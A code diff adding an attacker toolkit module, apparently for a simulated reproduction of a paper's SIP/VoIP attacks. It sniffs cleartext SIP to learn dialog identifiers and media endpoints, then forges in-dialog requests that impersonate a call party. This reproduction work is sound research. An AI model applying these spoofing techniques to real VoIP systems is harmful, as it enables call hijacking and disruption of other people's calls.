@@ -1,0 +1,290 @@
+"""Attacker toolkit: passive reconnaissance + packet forging.
+
+All four paper attacks rely on SIP/RTP travelling in cleartext: the
+attacker watches the hub (the testbed's ``attacker_eye`` sniffer),
+learns live dialog identifiers (Call-ID, tags, CSeq, Contact, SDP media
+endpoints), and then forges in-dialog requests or media packets.
+
+:class:`DialogSpy` does the watching; :class:`AttackerAgent` owns the
+attacker's sockets and the spy, and is the base every concrete attack
+builds on.
+"""
+
+from __future__ import annotations
+
+import weakref
+from dataclasses import dataclass, field
+from typing import Any
+
+from repro.net.addr import Endpoint, IPv4Address
+from repro.net.capture import Sniffer
+from repro.net.packet import (
+    ETHERTYPE_IPV4,
+    IPPROTO_UDP,
+    EthernetFrame,
+    IPv4Packet,
+    PacketError,
+    UdpDatagram,
+)
+from repro.net.stack import HostStack
+from repro.sim.eventloop import EventLoop
+from repro.sip.constants import METHOD_INVITE
+from repro.sip.headers import NameAddr, Via
+from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
+from repro.sip.sdp import SdpError, SessionDescription
+from repro.sip.uri import SipUri
+
+
+@dataclass(slots=True)
+class SpiedDialog:
+    """Everything the attacker has learned about one call."""
+
+    call_id: str
+    invite: SipRequest | None = None
+    ok: SipResponse | None = None
+    caller_signaling: Endpoint | None = None  # where the INVITE came from
+    media: dict[str, Endpoint] = field(default_factory=dict)  # AoR -> endpoint
+    highest_cseq: int = 0
+    established: bool = False
+    torn_down: bool = False
+
+    @property
+    def complete(self) -> bool:
+        """Do we know enough to forge in-dialog requests?"""
+        return self.invite is not None and self.ok is not None and self.established
+
+    def caller_addr(self) -> NameAddr:
+        assert self.invite is not None
+        return self.invite.from_addr
+
+    def callee_addr(self) -> NameAddr:
+        assert self.ok is not None
+        return self.ok.to_addr  # carries the callee's tag
+
+    def caller_contact(self) -> SipUri:
+        assert self.invite is not None
+        contact = self.invite.contact
+        return contact.uri if contact is not None else self.caller_addr().uri
+
+    def callee_contact(self) -> SipUri:
+        assert self.ok is not None
+        contact = self.ok.contact
+        return contact.uri if contact is not None else self.callee_addr().uri
+
+
+class DialogSpy:
+    """Passively reconstructs dialogs from sniffed frames."""
+
+    def __init__(self) -> None:
+        self.dialogs: dict[str, SpiedDialog] = {}
+        self.frames_seen = 0
+
+    def attach(self, sniffer: Sniffer) -> None:
+        sniffer.subscribe(self.on_frame)
+
+    def on_frame(self, frame: bytes, now: float) -> None:
+        self.frames_seen += 1
+        message, src = _extract_sip(frame)
+        if message is None or src is None:
+            return
+        try:
+            call_id = message.call_id
+        except Exception:
+            return
+        dialog = self.dialogs.get(call_id)
+        if dialog is None:
+            dialog = SpiedDialog(call_id=call_id)
+            self.dialogs[call_id] = dialog
+        try:
+            dialog.highest_cseq = max(dialog.highest_cseq, message.cseq.number)
+        except Exception:
+            pass
+        if isinstance(message, SipRequest):
+            self._on_request(dialog, message, src)
+        else:
+            self._on_response(dialog, message)
+
+    def _on_request(self, dialog: SpiedDialog, message: SipRequest, src: Endpoint) -> None:
+        if message.method == METHOD_INVITE:
+            try:
+                has_to_tag = message.to_addr.tag is not None
+            except Exception:
+                return
+            if not has_to_tag and dialog.invite is None:
+                dialog.invite = message
+                dialog.caller_signaling = src
+            self._learn_media(dialog, message)
+        elif message.method == "BYE":
+            dialog.torn_down = True
+        elif message.method == "ACK":
+            if dialog.ok is not None:
+                dialog.established = True
+
+    def _on_response(self, dialog: SpiedDialog, message: SipResponse) -> None:
+        try:
+            if message.cseq.method != METHOD_INVITE or message.status != 200:
+                return
+        except Exception:
+            return
+        dialog.ok = message
+        dialog.established = True  # media follows immediately after 200
+        self._learn_media(dialog, message)
+
+    @staticmethod
+    def _learn_media(dialog: SpiedDialog, message: SipRequest | SipResponse) -> None:
+        content_type = message.headers.get("Content-Type") or ""
+        if "application/sdp" not in content_type.lower() or not message.body:
+            return
+        try:
+            endpoint = SessionDescription.parse(message.body).audio_endpoint()
+        except SdpError:
+            return
+        try:
+            if isinstance(message, SipRequest):
+                party = message.from_addr.uri.address_of_record
+            else:
+                party = message.to_addr.uri.address_of_record
+        except Exception:
+            return
+        dialog.media[party] = endpoint
+
+    # -- queries -------------------------------------------------------------
+
+    def live_dialogs(self) -> list[SpiedDialog]:
+        return [d for d in self.dialogs.values() if d.complete and not d.torn_down]
+
+    def newest_live_dialog(self) -> SpiedDialog | None:
+        live = self.live_dialogs()
+        return live[-1] if live else None
+
+
+def _extract_sip(frame: bytes) -> tuple[SipRequest | SipResponse | None, Endpoint | None]:
+    """Best-effort SIP extraction from a sniffed frame."""
+    try:
+        eth = EthernetFrame.decode(frame)
+        if eth.ethertype != ETHERTYPE_IPV4:
+            return None, None
+        packet = IPv4Packet.decode(eth.payload)
+        if packet.protocol != IPPROTO_UDP or packet.is_fragment:
+            return None, None
+        udp = UdpDatagram.decode(packet.payload, packet.src, packet.dst)
+    except PacketError:
+        return None, None
+    if udp.src_port != 5060 and udp.dst_port != 5060:
+        return None, None
+    try:
+        return parse_message(udp.payload), Endpoint(packet.src, udp.src_port)
+    except SipParseError:
+        return None, None
+
+
+@dataclass(slots=True)
+class AttackReport:
+    """What an attack did, for the experiment harness."""
+
+    name: str
+    launched_at: float | None = None
+    completed: bool = False
+    details: dict[str, Any] = field(default_factory=dict)
+
+
+class _SharedSipPort:
+    """One UDP 5060 socket per attacker host, fanned out to listeners.
+
+    Several attack tools can run on the same attacker machine (the long
+    mixed-traffic scenarios do exactly that); they share the port like
+    processes sharing a raw socket.
+    """
+
+    def __init__(self, stack: HostStack) -> None:
+        self.socket = stack.bind(5060, self._dispatch)
+        self.listeners: list = []
+
+    def _dispatch(self, payload: bytes, src: Endpoint, now: float) -> None:
+        for listener in list(self.listeners):
+            listener(payload, src, now)
+
+
+_SIP_PORTS: "weakref.WeakKeyDictionary[HostStack, _SharedSipPort]" = weakref.WeakKeyDictionary()
+
+
+def _sip_port_for(stack: HostStack) -> _SharedSipPort:
+    port = _SIP_PORTS.get(stack)
+    if port is None:
+        port = _SharedSipPort(stack)
+        _SIP_PORTS[stack] = port
+    return port
+
+
+class AttackerAgent:
+    """The attacker host's active half: sockets + forging primitives."""
+
+    def __init__(self, stack: HostStack, loop: EventLoop, eye: Sniffer) -> None:
+        self.stack = stack
+        self.loop = loop
+        self.spy = DialogSpy()
+        self.spy.attach(eye)
+        self.responses_received: list[SipResponse] = []
+        self._port = _sip_port_for(stack)
+        self._port.listeners.append(self._on_sip)
+        self.sip_socket = self._port.socket
+        self._branch = 0
+
+    def add_sip_listener(self, handler) -> None:
+        """Subscribe an extra raw-datagram listener on the SIP port."""
+        self._port.listeners.append(handler)
+
+    def _on_sip(self, payload: bytes, src: Endpoint, now: float) -> None:
+        try:
+            message = parse_message(payload)
+        except SipParseError:
+            return
+        if isinstance(message, SipResponse):
+            self.responses_received.append(message)
+        # Requests to the attacker (e.g. hijacked signalling) are ignored.
+
+    def new_branch(self) -> str:
+        self._branch += 1
+        return f"z9hG4bK-forged-{self._branch}"
+
+    def forge_in_dialog_request(
+        self,
+        dialog: SpiedDialog,
+        method: str,
+        impersonate_callee: bool = True,
+        cseq_bump: int = 1,
+    ) -> tuple[SipRequest, Endpoint]:
+        """Build an in-dialog request impersonating one party.
+
+        Returns the request plus the victim's signalling endpoint.  With
+        ``impersonate_callee`` the forged request claims to come from the
+        callee and targets the caller (the paper's Figures 5 and 7, where
+        client A placed the call and the attacker impersonates B).
+        """
+        if not dialog.complete:
+            raise RuntimeError(f"dialog {dialog.call_id} not sufficiently spied")
+        if impersonate_callee:
+            from_addr, to_addr = dialog.callee_addr(), dialog.caller_addr()
+            target_uri = dialog.caller_contact()
+        else:
+            from_addr, to_addr = dialog.caller_addr(), dialog.callee_addr()
+            target_uri = dialog.callee_contact()
+        request = SipRequest(method=method, uri=target_uri)
+        via = Via(
+            transport="UDP",
+            host=str(self.stack.ip),
+            port=5060,
+            params=(("branch", self.new_branch()),),
+        )
+        request.headers.add("Via", str(via))
+        request.headers.add("Max-Forwards", "70")
+        request.headers.add("From", str(from_addr))
+        request.headers.add("To", str(to_addr))
+        request.headers.add("Call-ID", dialog.call_id)
+        request.headers.add("CSeq", f"{dialog.highest_cseq + cseq_bump} {method}")
+        request.headers.set("Content-Length", "0")
+        victim = Endpoint(IPv4Address.parse(target_uri.host), target_uri.port or 5060)
+        return request, victim
+
+    def send_sip(self, message: SipRequest | SipResponse, dst: Endpoint) -> None:
+        self.sip_socket.send_to(dst, message.encode())
